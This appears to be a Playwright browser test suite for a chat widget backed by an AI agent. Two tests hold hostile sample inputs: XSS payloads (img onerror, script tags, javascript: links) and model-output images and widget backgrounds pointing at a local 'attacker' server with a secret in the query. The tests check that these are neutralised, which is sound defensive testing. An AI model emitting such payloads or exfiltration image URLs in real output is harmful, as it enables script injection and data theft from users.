"""The widget bundle on a plain page (no JupyterLab): tunnel, reducer and built-in renderer
against a real lab over HTTP, in Debian's Chromium."""

import re
import time

from agents import Agent
from agents.testing import ModelStep, ScriptedModel, assistant_message

from chatkit_lab import MirrorModel

CHAT = "[data-testid='chat']"


def open_chat(page, url, query=""):
    page.goto(f"{url}/{query}")
    page.locator(f"{CHAT} .ckl-input").first.wait_for()


def send(page, text):
    box = page.locator(f"{CHAT} .ckl-input")
    box.fill(text)
    box.press("Enter")


def wait_idle(page):
    page.wait_for_function("() => !document.querySelector('.ckl-stop') && !!document.querySelector('.ckl-send')")


def test_a_message_streams_a_reply_and_enter_sends_shift_enter_does_not(page, make_lab, harness):
    lab = make_lab(model=MirrorModel(delay=0.01))
    open_chat(page, harness(lab))
    box = page.locator(f"{CHAT} .ckl-input")
    box.fill("hello")
    box.press("Shift+Enter")
    box.type("world")
    assert box.input_value() == "hello\nworld"
    box.press("Enter")
    page.locator(".ckl-stop").wait_for()  # streaming: the Stop button replaces Send
    assert page.locator(".ckl-input").input_value() == ""
    page.wait_for_function("() => document.querySelector('.ckl-assistant')?.textContent.includes('you said')")
    wait_idle(page)
    assert page.locator(".ckl-user .ckl-bubble").inner_text() == "hello\nworld"
    assert page.locator(".ckl-title").inner_text() == "hello"  # the title is the first line
    assert 'you said: "hello world"' in page.locator(".ckl-assistant").inner_text()
    assert page.errors == []


HOSTILE = """# Report
- one
- two

```python
print("hi")
```

| a | b |
|---|---|
| 1 | 2 |

<img src=x onerror="window.pwned=1"> <script>window.pwned=2</script>
[click](javascript:window.pwned=3) [docs](https://example.com)
"""


def test_model_output_renders_as_markdown_and_never_as_html(page, make_lab, harness):
    from openai.types.responses import ResponseOutputMessage, ResponseOutputText
    from openai.types.responses.response_output_text import AnnotationURLCitation

    cited = ResponseOutputText(type="output_text", text=HOSTILE, annotations=[
        AnnotationURLCitation(type="url_citation", url="https://docs.example.org/a", title="Doc A", start_index=0, end_index=8)])
    message = ResponseOutputMessage(type="message", id="m1", role="assistant", status="completed", content=[cited])
    lab = make_lab(model=ScriptedModel([[message]]))
    open_chat(page, harness(lab))
    send(page, "report")
    page.locator(".ckl-assistant h1").wait_for()
    reply = page.locator(".ckl-assistant .ckl-md")
    assert reply.locator("li").count() == 2 and reply.locator("table td").count() == 2
    assert reply.locator("pre code").inner_text().strip() == 'print("hi")'
    assert reply.locator("img").count() == 0 and reply.locator("script").count() == 0
    assert "<img src=x" in reply.inner_text()  # shown as text
    hrefs = reply.locator("a").evaluate_all("els => els.map(a => [a.getAttribute('href'), a.target, a.rel])")
    assert ["https://example.com", "_blank", "noopener noreferrer"] in hrefs
    assert not any((h or "").startswith("javascript:") for h, *_ in hrefs)
    assert page.evaluate("window.pwned") is None
    sources = page.locator(".ckl-assistant .ckl-sources a")
    sources.first.wait_for()
    assert sources.evaluate_all("els => els.map(a => [a.textContent, a.getAttribute('href')])") == [["Doc A", "https://docs.example.org/a"]]


def test_stop_keeps_the_partial_answer(page, make_lab, harness):
    lab = make_lab(model=MirrorModel(delay=0.01))
    open_chat(page, harness(lab))
    send(page, "/words 3000")
    page.wait_for_function("() => (document.querySelector('.ckl-assistant')?.textContent || '').includes('w40')")
    page.locator(".ckl-stop").click()
    wait_idle(page)
    shown = page.locator(".ckl-assistant").inner_text()
    assert "w40" in shown and "w3000" not in shown
    deadline = time.monotonic() + 10
    while True:
        rows = lab.sql("SELECT type, text FROM items ORDER BY created_at, seq")
        if "sdk_hidden_context" in rows.type.tolist() or time.monotonic() > deadline:
            break
        time.sleep(0.05)
    assert rows.type.tolist() == ["user_message", "assistant_message", "sdk_hidden_context"]
    assert rows.text[1].startswith("w1 w2") and "w3000" not in rows.text[1]
    assert lab.sql("SELECT status FROM turns").status.tolist() == ["cancelled"]


def test_threads_new_switch_rename_and_reload_from_the_database(page, make_lab, harness):
    lab = make_lab()
    url = harness(lab)
    open_chat(page, url)
    send(page, "first thread")
    page.locator(".ckl-assistant").wait_for()
    wait_idle(page)
    page.get_by_role("button", name="New chat").click()
    assert page.locator(".ckl-assistant").count() == 0
    send(page, "second thread")
    page.wait_for_function("() => document.querySelector('.ckl-title').textContent === 'second thread'")
    wait_idle(page)
    page.get_by_role("button", name="Threads").click()
    page.locator(".ckl-threads li").nth(1).wait_for()
    assert page.locator(".ckl-thread-open").all_inner_texts() == ["second thread", "first thread"]
    page.locator(".ckl-thread-open", has_text="first thread").click()
    page.wait_for_function("() => document.querySelector('.ckl-title').textContent === 'first thread'")
    assert page.locator(".ckl-user").inner_text() == "first thread"
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.type), d.dismiss()))  # none: sandboxed outputs block them
    page.get_by_role("button", name="Threads", exact=True).click()
    page.get_by_role("button", name="Rename first thread").click()
    field = page.get_by_label("New title for first thread")
    assert page.evaluate("() => document.activeElement.classList.contains('ckl-rename')")
    field.fill("Renamed")
    field.press("Enter")
    page.wait_for_function("() => document.querySelector('.ckl-title').textContent === 'Renamed'")
    assert sorted(lab.threads_df().title) == ["Renamed", "second thread"]
    page.get_by_role("button", name="Delete second thread").click()  # the list is still open
    confirm = page.get_by_role("alertdialog", name="Delete second thread?")
    assert "Delete “second thread”?" in confirm.inner_text()  # it names the thread
    confirm.get_by_role("button", name="Cancel").click()
    assert lab.threads_df().title.tolist().count("second thread") == 1
    page.get_by_role("button", name="Delete second thread").click()
    page.get_by_role("alertdialog").get_by_role("button", name="Delete", exact=True).click()
    page.wait_for_function("() => document.querySelectorAll('.ckl-thread-open').length === 1")
    assert lab.threads_df().title.tolist() == ["Renamed"] and dialogs == []
    page.keyboard.press("Escape")  # Esc closes the drawer, and focus goes back to its button
    page.wait_for_function("() => !document.querySelector('.ckl-threads')")
    assert page.evaluate("() => document.activeElement.getAttribute('aria-label')") == "Threads"
    # A new page (a reload) gets the history back from DuckDB.
    open_chat(page, url)
    page.get_by_role("button", name="Threads").click()
    page.locator(".ckl-thread-open", has_text="Renamed").click()
    page.wait_for_function("() => document.querySelectorAll('.ckl-assistant').length === 1")
    assert page.locator(".ckl-user").inner_text() == "first thread"


def test_errors_show_a_sentence_and_retry_answers(page, make_lab, harness):
    model = ScriptedModel([ModelStep.raise_error(ConnectionError("provider down")), [assistant_message("recovered", item_id="r")]])
    lab = make_lab(model=model)
    open_chat(page, harness(lab))
    send(page, "hello")
    page.locator(".ckl-error").wait_for()
    assert "The agent failed with ConnectionError: provider down." in page.locator(".ckl-error").inner_text()
    page.get_by_role("button", name="Retry").click()
    page.wait_for_function("() => document.querySelector('.ckl-assistant')?.textContent.includes('recovered')")
    assert page.locator(".ckl-error").count() == 0 and page.locator(".ckl-user").count() == 1


def test_feedback_and_tool_steps(page, make_lab, harness):
    from tests.test_server import get_weather

    lab = make_lab(tools=[get_weather])
    open_chat(page, harness(lab))
    send(page, "call get_weather Oslo")
    page.wait_for_function("() => document.querySelector('.ckl-assistant')?.textContent.includes('sunny in Oslo')")
    wait_idle(page)
    workflow = page.locator(".ckl-workflow")
    workflow.locator("summary").click()
    assert workflow.locator(".ckl-task-title").inner_html() == "Called <code>get_weather</code>"  # inline markdown
    page.get_by_role("button", name="Good answer").click()
    deadline = time.monotonic() + 5
    while lab.sql("SELECT kind FROM feedback").empty and time.monotonic() < deadline:
        time.sleep(0.05)
    assert lab.sql("SELECT kind FROM feedback").kind.tolist() == ["positive"]


def test_a_client_tool_is_answered_in_the_browser_and_the_turn_continues(page, make_lab, harness):
    from agents import RunContextWrapper, StopAtTools, function_tool
    from chatkit.agents import ClientToolCall

    @function_tool
    async def get_selection(ctx: RunContextWrapper, cell: int) -> str:
        """Ask the browser for the selection."""
        ctx.context.client_tool_call = ClientToolCall(name="get_selection", arguments={"cell": cell})
        return "asked the browser"

    agent = Agent(name="A", tools=[get_selection], tool_use_behavior=StopAtTools(stop_at_tool_names=["get_selection"]), model=MirrorModel())
    lab = make_lab(agent=agent)
    open_chat(page, harness(lab))
    send(page, 'call get_selection {"cell": 3}')
    page.wait_for_function("() => window.sent.filter(m => m.kind === 'request' && m.body.includes('add_client_tool_output')).length === 1")
    wait_idle(page)
    items = lab.sql("SELECT type, data FROM items ORDER BY created_at, seq")
    call = items[items.type == "client_tool_call"].data.iloc[0]
    assert '"status":"completed"' in call and '"selection":"cell 3"' in call


def test_the_official_component_path_completes_a_turn_through_the_tunnel(page, make_lab, harness):
    lab = make_lab()
    url = harness(lab)
    open_chat_official = f"?ui=chatkit&chatkit_url={url}/standin-chatkit.js"
    page.goto(f"{url}/{open_chat_official}")
    page.wait_for_function("() => window.modelState.status.startsWith('chatkit')")
    page.evaluate("() => document.querySelector('openai-chatkit').sendUserMessage({text: 'through the official element'})")
    page.wait_for_function("() => (document.querySelector('.standin-reply')?.textContent || '').includes('you said')")
    assert page.evaluate("() => window.modelState.thread_id") == lab.threads_df().thread_id[0]
    options = page.evaluate("() => { const o = document.querySelector('openai-chatkit').options; return {domainKey: o.api.domainKey, fetch: typeof o.api.fetch} }")
    assert options == {"domainKey": "domain_pk_localhost_dev", "fetch": "function"}


def test_auto_falls_back_to_the_builtin_renderer_quickly_and_says_why(page, make_lab, harness):
    lab = make_lab()
    url = harness(lab)
    started = time.monotonic()
    page.goto(f"{url}/?ui=auto&chatkit_url=http://127.0.0.1:9/chatkit.js")
    page.locator(f"{CHAT} .ckl-input").first.wait_for()
    assert time.monotonic() - started < 3  # the failed load is detected, not waited out
    assert re.match(r"builtin: fallback \(the ChatKit script could not be loaded from http://127.0.0.1:9/chatkit.js\)", page.evaluate("window.modelState.status"))
    badge = page.get_by_test_id("builtin-badge")  # a small badge, not an error banner, with the reason on hover
    assert badge.inner_text() == "built-in" and "could not be loaded" in badge.get_attribute("title")
    assert page.locator(".ckl-banner").count() == 0
    send(page, "still works")
    page.locator(".ckl-assistant").wait_for()


def test_widgets_render_and_their_buttons_reach_the_server(page, make_lab, harness):
    from agents import RunContextWrapper, function_tool
    from chatkit.actions import ActionConfig
    from chatkit.types import AssistantMessageContent, AssistantMessageItem, ThreadItemDoneEvent
    from chatkit.widgets import (
        Badge,
        Button,
        Caption,
        Card,
        Col,
        Divider,
        Image,
        ListView,
        ListViewItem,
        Markdown,
        Row,
        Text,
        Title,
    )

    @function_tool
    async def show_card(ctx: RunContextWrapper, title: str) -> str:
        """Show a card."""
        await ctx.context.stream_widget(Card(children=[
            Title(value=title), Caption(value="a caption"), Markdown(value="**bold** <b onmouseover=x>raw</b>"),
            Row(children=[Badge(label="new"), Button(label="Approve", onClickAction=ActionConfig(type="approve", payload={"id": 7}))]),
            Divider(), Col(children=[Text(value="<i>plain text</i>")]),
            Image(src="data:image/gif;base64,R0lGODlhAQABAAAAACw=", alt="dot"),
        ]))
        await ctx.context.stream_widget(ListView(children=[ListViewItem(children=[Text(value="item a")]), ListViewItem(children=[Text(value="item b")])]))
        return "shown"

    lab = make_lab(tools=[show_card])

    @lab.on_action("approve")
    async def approve(thread, action, sender, context):
        yield ThreadItemDoneEvent(item=AssistantMessageItem(
            id=lab.store.generate_item_id("message", thread, context), thread_id=thread.id, created_at=__import__("datetime").datetime.now(),
            content=[AssistantMessageContent(text=f"Approved {action.payload['id']} from {sender.type}", annotations=[])]))

    open_chat(page, harness(lab))
    send(page, "call show_card Budget")
    card = page.locator(".ckl-w-card")
    card.wait_for()
    assert card.locator(".ckl-w-title").inner_text() == "Budget" and card.locator(".ckl-w-caption").inner_text() == "a caption"
    assert card.locator(".ckl-w-badge").inner_text() == "new" and card.locator("img.ckl-w-image").count() == 1
    assert card.locator(".ckl-md strong").inner_text() == "bold" and card.locator(".ckl-md b").count() == 0
    assert card.locator(".ckl-w-text", has_text="<i>plain text</i>").count() == 1 and card.locator("i").count() == 0
    assert page.locator(".ckl-w-list [role='listitem']").count() == 2 and card.locator("hr").count() == 1
    wait_idle(page)
    card.get_by_role("button", name="Approve").click()
    page.wait_for_function("() => [...document.querySelectorAll('.ckl-assistant')].some(e => e.textContent.includes('Approved 7 from widget'))")


def test_a_locked_thread_replaces_the_composer_with_its_reason(page, make_lab, harness):
    from chatkit.types import LockedStatus

    from tests.test_server import LOCAL

    lab = make_lab()
    turn = lab.send_sync("hello")
    thread = lab.runtime.loop.call(lab.store.load_thread(turn.thread_id, LOCAL))  # Playwright owns this thread's loop
    thread.status = LockedStatus(reason="graded")
    lab.runtime.loop.call(lab.store.save_thread(thread, LOCAL))
    page.goto(f"{harness(lab)}/?thread={turn.thread_id}")
    page.locator(".ckl-closed").wait_for()
    assert page.locator(".ckl-closed").inner_text() == "This thread is locked: graded."
    assert page.locator(".ckl-input").count() == 0


def test_long_threads_page_back_through_items_list(page, make_lab, harness):
    lab = make_lab()
    thread_id = lab.send_sync("m0").thread_id
    for n in range(1, 60):
        lab.send_sync(f"m{n}", thread_id)
    page.goto(f"{harness(lab)}/?thread={thread_id}")
    page.wait_for_function("() => document.querySelectorAll('.ckl-user').length === 25")
    assert page.locator(".ckl-user").first.inner_text() == "m35"
    page.get_by_role("button", name="Show earlier messages").click()
    page.wait_for_function("() => document.querySelectorAll('.ckl-user').length === 50")
    page.get_by_role("button", name="Show earlier messages").click()
    page.wait_for_function("() => document.querySelectorAll('.ckl-user').length === 60")
    assert page.locator(".ckl-user").first.inner_text() == "m0"
    assert page.get_by_role("button", name="Show earlier messages").count() == 0


def test_two_views_of_one_widget_share_the_thread_and_keep_their_streams_apart(page, make_lab, harness):
    lab = make_lab()
    page.goto(f"{harness(lab)}/?views=2")
    first, second = page.locator("[data-testid='chat']").nth(0), page.locator("[data-testid='chat']").nth(1)
    second.locator(".ckl-input").wait_for()
    first.locator(".ckl-input").fill("from the first view")
    first.locator(".ckl-input").press("Enter")
    first.locator(".ckl-assistant").wait_for()
    # thread_id is the model's: the other view follows the thread (loaded from the server).
    second.locator(".ckl-user", has_text="from the first view").wait_for()
    page.wait_for_function("() => !document.querySelector('.ckl-stop')")
    second.locator(".ckl-input").fill("from the second view")
    second.locator(".ckl-input").press("Enter")
    page.wait_for_function("() => [...document.querySelectorAll('#host2 .ckl-assistant')].some(e => e.textContent.includes('from the second view'))")
    # Each view handled only the frames of its own requests.
    assert first.locator(".ckl-user").all_inner_texts() == ["from the first view"]
    assert second.locator(".ckl-user").all_inner_texts() == ["from the first view", "from the second view"]
    assert lab.items_df().text.str.startswith("from the").sum() == 2


def test_setting_thread_id_from_python_switches_the_chat(page, make_lab, harness):
    lab = make_lab()
    first = lab.send_sync("first")
    second = lab.send_sync("second")
    open_chat(page, harness(lab), f"?thread={first.thread_id}")
    page.wait_for_function("() => document.querySelector('.ckl-user')?.textContent === 'first'")
    page.evaluate("id => window.model.set('thread_id', id)", second.thread_id)  # what a trait sync does
    page.wait_for_function("() => document.querySelector('.ckl-user')?.textContent === 'second'")
    page.get_by_role("button", name="New chat").click()
    page.wait_for_function("() => window.modelState.thread_id === null")  # synced after Preact's effects run


def test_the_token_rides_every_request_and_switching_users_switches_threads(page, make_lab, harness):
    lab = make_lab()
    lab.login("alice", name="Alice")
    alice, bob = lab.issuer.issue("alice", name="Alice"), lab.issuer.issue("bob")
    url = harness(lab)
    open_chat(page, url, "?token=" + alice)
    send(page, "alice's question")
    page.locator(".ckl-assistant").wait_for()
    wait_idle(page)
    requests = page.evaluate("window.sent.filter((m) => m.kind === 'request')")
    assert all(r["headers"]["authorization"] == f"Bearer {alice}" for r in requests)
    created = next(r for r in requests if '"threads.create"' in r["body"])
    assert '"pageContext"' in created["body"] and "chatkit-lab harness" in created["body"]
    assert lab.inspect().context["user"] == {"name": "Alice", "id": "alice"}
    assert alice not in page.content() and "token" not in page.evaluate("JSON.stringify(window.modelState)")
    page.evaluate(f"window.auth({bob!r})")  # lab.login("bob")
    page.wait_for_function("() => document.querySelectorAll('.ckl-assistant').length === 0")
    page.get_by_role("button", name="Threads").click()
    page.wait_for_function("() => document.querySelector('.ckl-threads') && !document.querySelector('.ckl-thread-open')")
    page.get_by_role("button", name="Close threads").click()
    page.evaluate(f"window.auth({alice!r})")
    page.get_by_role("button", name="Threads").click()
    page.locator(".ckl-thread-open", has_text="alice's question").wait_for()
    page.get_by_role("button", name="Close threads").click()
    page.evaluate("window.auth(null)")  # lab.logout(): refused, with a sentence
    send(page, "anyone there?")
    page.locator(".ckl-error", has_text="Missing Authorization header").wait_for()
    assert lab.threads_df(all_users=True).user_id.tolist() == ["alice"]


def test_a_warning_from_the_kernel_shows_above_the_chat(page, make_lab, harness):
    lab = make_lab()
    open_chat(page, harness(lab))
    assert page.locator("[data-testid='warning']").count() == 0
    page.evaluate("() => window.model.set('warning', '3 log rows (3 spans) could not be written: the disk is full')")
    banner = page.locator("[data-testid='warning']")
    banner.wait_for()
    assert banner.get_attribute("role") == "alert" and "could not be written" in banner.inner_text()
    send(page, "the chat still works")
    page.locator(".ckl-assistant").wait_for()


def test_model_output_makes_the_browser_fetch_no_host_it_chose(page, make_lab, harness):
    """Markdown images, widget images and widget backgrounds, live and reloaded: 0 requests out."""
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    from agents import RunContextWrapper, function_tool
    from chatkit.widgets import Box, Card, Image, Text

    hits = []

    class Attacker(BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args):
            pass

    attacker = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    evil = f"http://127.0.0.1:{attacker.server_address[1]}"

    @function_tool
    async def show(ctx: RunContextWrapper, what: str) -> str:
        """Show a card."""
        await ctx.context.stream_widget(Card(children=[
            Image(src=f"{evil}/widget-image?secret=1", alt="chart"),
            Box(background=f"url({evil}/widget-background?secret=1)", children=[Text(value="boxed")]),
        ]))
        return "shown"

    reply = f"Here: ![stolen]({evil}/markdown-image?secret=1) and ![inline](data:image/gif;base64,R0lGODlhAQABAAAAACw=)"
    script = ScriptedModel([
        ModelStep(output=[assistant_message(reply)]),
        ModelStep(output=[__import__("agents.testing", fromlist=["function_call"]).function_call("show", {"what": "x"}, call_id="c1")]),
        ModelStep(output=[assistant_message("done")]),
    ])
    lab = make_lab(agent=Agent(name="A", tools=[show], model=script))
    url = harness(lab)
    outbound = []
    page.on("request", lambda r: outbound.append(r.url) if r.url.startswith(evil) else None)
    open_chat(page, url)
    send(page, "show me")
    page.locator(".ckl-image-blocked").first.wait_for()
    wait_idle(page)  # while a reply streams, Enter does not send (CI once sent too early)
    send(page, "and a card")
    page.locator(".ckl-w-card").wait_for()
    wait_idle(page)
    open_chat(page, url, f"?thread={lab.threads_df().thread_id[0]}")  # the stored path renders them again
    page.locator(".ckl-w-card").wait_for()
    page.wait_for_timeout(300)
    assert outbound == [] and hits == []
    blocked = page.locator(".ckl-image-blocked")
    assert blocked.count() >= 2 and "not loaded; click to open" in blocked.first.inner_text()
    assert page.locator(".ckl-md img[src^='data:image/gif']").count() >= 1  # data: images still show
    assert page.evaluate("() => [...document.querySelectorAll('.ckl-w-col')].every(e => !e.style.background.includes('url'))")
    attacker.shutdown()


def test_images_from_an_allowed_domain_load(page, make_lab, harness):
    lab = make_lab(model=ScriptedModel([ModelStep(output=[assistant_message("![ok](http://127.0.0.1:9/pic.png)")])]))
    open_chat(page, harness(lab), "?images=http://127.0.0.1:9")
    send(page, "picture")
    page.locator(".ckl-md img[src='http://127.0.0.1:9/pic.png']").wait_for(state="attached")
    assert page.locator(".ckl-image-blocked").count() == 0
